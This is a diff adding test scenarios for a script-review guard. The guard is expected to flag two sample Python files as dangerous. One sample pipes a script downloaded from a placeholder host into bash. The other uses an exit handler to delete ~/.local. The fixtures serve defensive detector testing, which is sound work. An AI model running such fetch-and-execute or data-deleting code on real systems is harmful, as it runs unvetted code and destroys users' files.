@@ -161,3 +161,38 @@ Feature: script pre-review follows values a first reading lost
       """
     When I run "terraphim-agent guard review-script --json profiles.py"
     Then the JSON field "verdict" is "dangerous"
+
+  Scenario: a Python shell started with a pipe runs the downloaded text it is given
+    Given a project file "hooks.py" containing:
+      """
+      import subprocess
+      import urllib.request
+
+
+      def fetch(name):
+          with urllib.request.urlopen(f"https://hooks.example.org/{name}") as r:
+              return r.read()
+
+
+      proc = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE)
+      proc.communicate(fetch("install.sh"))
+      """
+    When I run "terraphim-agent guard review-script --json hooks.py"
+    Then the JSON field "verdict" is "dangerous"
+
+  Scenario: an exit handler deletes the directory it is registered with
+    Given a project file "cleanup.py" containing:
+      """
+      import atexit
+      import os
+      import shutil
+
+
+      def final(path):
+          shutil.rmtree(path, ignore_errors=True)
+
+
+      atexit.register(final, os.path.expanduser("~/.local"))
+      """
+    When I run "terraphim-agent guard review-script --json cleanup.py"
+    Then the JSON field "verdict" is "dangerous"
